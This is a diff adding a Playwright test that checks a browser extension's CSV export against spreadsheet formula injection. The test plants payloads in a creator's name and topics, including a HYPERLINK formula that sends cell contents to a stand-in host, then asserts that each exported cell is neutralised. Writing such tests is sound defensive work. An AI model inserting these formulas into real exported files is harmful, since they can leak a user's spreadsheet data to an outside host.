@@ -1,7 +1,11 @@
+import { readFileSync } from 'node:fs';
 import type { Page } from '@playwright/test';
+import Papa from 'papaparse';
 import type { Answer } from '../../scripts/browser';
 import { creatorFor } from '../site/creators';
 import { createSite } from '../site/site';
+import { addressOf } from '../site/tile';
+import { videosOf } from '../site/videos';
 import { expect, test } from './harness';
 
 // The page is an enemy: it writes what it likes, where it likes, and it is there before us.
@@ -102,6 +106,36 @@ test('texts of a megabyte neither stop the estimate nor fill the card', async ({
   await expect(badges(page)).toHaveCount(16);
   const label = (await card(page).getAttribute('aria-label')) ?? '';
   expect(label.length).toBeLessThan(2_000);
+});
+
+test('formulas in names and topics are no formulas in the exported table', async ({
+  page,
+  popup,
+  browserWithExtension,
+}) => {
+  const now = new Date();
+  const site = createSite({ now });
+  const formula = `=HYPERLINK("http://elsewhere.example/?"&A1,"open")`;
+  const topics = [formula, '+1', '-1', '@SUM(1)', '\t=1', '\uff1d1'];
+  const video = videosOf(creatorFor('micro'), now).find(({ kind }) => kind === 'video')!;
+  browserWithExtension.answers.current = (url) => {
+    const answer = site.respond(url);
+    const body = answer.body
+      .replaceAll(`"nickname":"${name}"`, `"nickname":"${inJson(formula)}"`)
+      .replace('"diversificationLabels":[]', `"diversificationLabels":${JSON.stringify(topics)}`);
+    return { ...answer, body };
+  };
+  await page.goto(addressOf(creatorFor('micro'), video));
+  await expect(page.locator('[data-permille=pill]')).toHaveAttribute('aria-label', / views/);
+  const view = await popup();
+  await expect(view.getByText(formula).first()).toBeVisible();
+  const coming = view.waitForEvent('download');
+  await view.getByRole('button', { name: 'CSV', exact: true }).click();
+  const text = readFileSync(await (await coming).path(), 'utf8').replace(/^\ufeff/, '');
+  const { data } = Papa.parse<Record<string, string>>(text, { header: true });
+  expect(data).toHaveLength(1);
+  expect(data[0]?.topics).toBe(`'${topics.join('; ')}`);
+  for (const cell of Object.values(data[0] ?? {})) expect(cell).not.toMatch(/^\s*[=+\-@\uff1d]/);
 });
 
 test('data that is broken, deep or of another kind leaves what is visible', async ({
